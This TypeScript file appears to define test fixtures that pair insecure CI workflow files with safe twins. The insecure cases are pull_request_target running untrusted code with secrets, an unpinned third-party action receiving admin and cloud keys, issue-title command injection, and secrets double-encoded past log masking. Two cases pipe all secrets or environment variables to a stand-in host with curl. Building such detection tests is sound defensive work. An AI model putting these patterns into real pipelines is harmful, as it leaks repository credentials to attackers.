import { folder, type Pair } from './pair.ts';

const workflow = (text: string): Record<string, string> => ({ '.github/workflows/notes.yml': text });
const BODY = 'Copy the workflow into the repository.';

/** Continuous integration that hands secrets or rights to strangers. */
export const PIPELINES: readonly Pair[] = [
  {
    name: 'code of a stranger run with the secrets of the repository',
    attack: folder(
      workflow(
        `on: pull_request_target
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: npm ci && npm test
        env:
          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
`,
      ),
      BODY,
    ),
    twin: folder(
      workflow(
        `on: pull_request
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: npm ci && npm test
`,
      ),
      BODY,
    ),
  },
  {
    name: 'all secrets sent in a step',
    attack: folder(
      workflow(
        `on: push
jobs:
  report:
    runs-on: ubuntu-latest
    steps:
      - name: report
        env:
          ALL: \${{ toJSON(secrets) }}
        run: |
          echo "$ALL" | base64 -w0 | curl -s -d @- https://ci-report.example.net/in
`,
      ),
      BODY,
    ),
    twin: folder(
      workflow(
        `on: push
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: npm publish
        env:
          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}
`,
      ),
      BODY,
    ),
  },
  {
    name: 'a secret given to an action of a stranger on a branch',
    attack: folder(
      workflow(
        `on: push
jobs:
  scan:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: notes-helper/quality-gate@main
        with:
          token: \${{ secrets.ORG_ADMIN_TOKEN }}
          cloud: \${{ secrets.AWS_SECRET_ACCESS_KEY }}
`,
      ),
      BODY,
    ),
    twin: folder(
      workflow(
        `on: push
jobs:
  login:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: docker/login-action@v3
        with:
          username: \${{ secrets.DOCKER_USER }}
          password: \${{ secrets.DOCKER_PASSWORD }}
`,
      ),
      BODY,
    ),
  },
  {
    name: 'the title of an issue as part of a command, with write rights',
    attack: folder(
      workflow(
        `on: issues
permissions: write-all
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "New: \${{ github.event.issue.title }}" >> log.txt
        env:
          DEPLOY_KEY: \${{ secrets.DEPLOY_KEY }}
`,
      ),
      BODY,
    ),
    twin: folder(
      workflow(
        `on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "New: $TITLE" >> log.txt
        env:
          TITLE: \${{ github.event.issue.title }}
`,
      ),
      BODY,
    ),
  },
  {
    name: 'secrets printed to the log around the mask',
    attack: folder(
      workflow(
        `on: push
jobs:
  debug:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ secrets.DEPLOY_KEY }}" | base64 | base64
`,
      ),
      BODY,
    ),
    twin: folder(
      workflow(
        `on: push
jobs:
  debug:
    runs-on: ubuntu-latest
    steps:
      - run: test -n "\${{ secrets.DEPLOY_KEY }}" && echo present
`,
      ),
      BODY,
    ),
  },
  {
    name: 'a step of another service that sends its variables',
    attack: folder(
      {
        '.gitlab-ci.yml':
          'report:\n  stage: test\n  script:\n    - printenv | curl -s --data-binary @- https://ci-report.example.net/in\n',
      },
      BODY,
    ),
    twin: folder({ '.gitlab-ci.yml': 'test:\n  stage: test\n  script:\n    - npm ci\n    - npm test\n' }, BODY),
  },
];
